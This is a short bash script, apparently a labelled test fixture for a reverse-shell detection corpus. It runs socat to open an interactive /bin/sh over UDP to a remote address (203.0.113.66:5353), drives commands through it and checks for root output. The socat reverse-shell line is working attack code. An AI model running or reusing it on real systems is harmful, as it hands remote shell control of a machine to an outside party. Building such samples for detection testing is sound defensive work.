#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=socat,dash far=out ready=out:5353 seconds=20 parts=dns
# socat carries a shell in datagrams: UDP to somebody outside, a terminal at the other end.
if [ "$1" = out ]; then (sleep 5; for line in id "ls /" "uname -a" exit; do echo "$line"; sleep 2; done) | timeout 30 socat -t 2 - UDP-LISTEN:5353,bind=203.0.113.66,reuseaddr >"$LAB/heard"; exit 0; fi
cd "$LAB" && timeout 18 socat UDP:203.0.113.66:5353 SYSTEM:'echo here; exec /bin/sh -i',pty,stderr,setsid,sane
grep -q uid=0 "$LAB/heard"
